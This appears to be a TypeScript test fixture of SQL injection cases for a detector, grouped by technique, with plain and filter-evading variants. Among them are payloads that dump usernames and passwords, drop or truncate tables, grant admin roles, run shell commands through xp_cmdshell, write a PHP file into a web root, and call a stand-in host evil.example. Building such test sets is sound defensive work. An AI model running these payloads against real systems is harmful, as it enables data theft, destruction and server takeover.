import type { NamedCases } from './content-cases.ts';

export const SQL_INJECTION_CASES: readonly NamedCases[] = [
  {
    subtype: 'union',
    textbook: [
      "' UNION SELECT username, password FROM users--",
      '1 UNION SELECT 1,2,3',
      '-1 UNION ALL SELECT NULL,NULL,NULL-- -',
      '" union select card_number from payments#',
    ],
    others: [
      '1 UnIoN/**/aLl/**/SeLeCt/**/1,2',
      '7/*!50000UNION*//*!50000SELECT*/login,pass',
      "x')) union select null,version()--",
      '3%0aunion%0aselect%0a1,2',
      "a' union(select(1),(2))-- -",
      '0 union distinct select 0x61,0x62',
      "9' UNION SELECT table_name FROM information_schema.tables WHERE 'a'='a",
      '1\tUNION\tSELECT\t@@version',
    ],
  },
  {
    subtype: 'boolean_blind',
    textbook: ["' OR 1=1--", "' OR '1'='1", "admin' OR 'a'='a'--", '1 OR 1=1', '" or ""="', "5' AND 1=2-- -"],
    others: [
      "x') or ('7'='7",
      "1' || '1'='1",
      "kim' and substring(password,1,1)='a",
      '42 and (select count(*) from users)>0',
      "1'/**/or/**/2>1#",
      "' oR 3 like 3--",
      "a' or 1 in (1)--",
      "1' and ascii(substr((select database()),1,1))>64--",
      "' or not false -- x",
      '8) or (8=8',
      "1'and(1)=(1)and'a'='a",
      '1 HAVING 1=1',
      '(case when (1=1) then name else price end)',
    ],
  },
  {
    subtype: 'time_based',
    textbook: [
      "1' AND SLEEP(5)--",
      "'; WAITFOR DELAY '0:0:5'--",
      "1' || pg_sleep(10)--",
      '1 or benchmark(9000000,md5(1))',
    ],
    others: [
      "x'xor(if(now()=sysdate(),sleep(9),0))xor'z",
      "1' and (select * from (select(sleep(7)))q)-- -",
      "1 and 3=dbms_pipe.receive_message('a',9)",
      "2' and if(1=1,sl/**/eep(1),0) or sleep(4)#",
      "';select/**/pg_sleep(8);--",
    ],
  },
  {
    subtype: 'stacked',
    textbook: ["1'; DROP TABLE users--", '1; DELETE FROM orders', "x'; INSERT INTO admins VALUES ('eve','x')--"],
    others: [
      "5'; exec master..xp_cmdshell 'whoami'--",
      "'; truncate table logs; --",
      "1;update users set role='admin' where id=7",
      "a';/**/create user eve identified by 'x'--",
      "');drop table students;--",
    ],
  },
  {
    subtype: 'error_based',
    textbook: ["1' AND extractvalue(1,concat(0x7e,version()))--", "1' AND updatexml(1,concat(0x7e,user()),1)-- -"],
    others: [
      "1 and 1=utl_inaddr.get_host_address('a')",
      "9' and gtid_subset(user(),1)#",
      "x' or ctxsys.drithsx.sn(1,user)='a",
      "1' and 1=convert(int,@@version)--",
    ],
  },
  {
    subtype: 'file_or_command',
    textbook: ["1 INTO OUTFILE '/var/www/html/s.php'", '1 PROCEDURE ANALYSE()'],
    others: ["a'||utl_http.request('http://evil.example/')||'b", "1 into dumpfile '/tmp/u.so'"],
  },
];
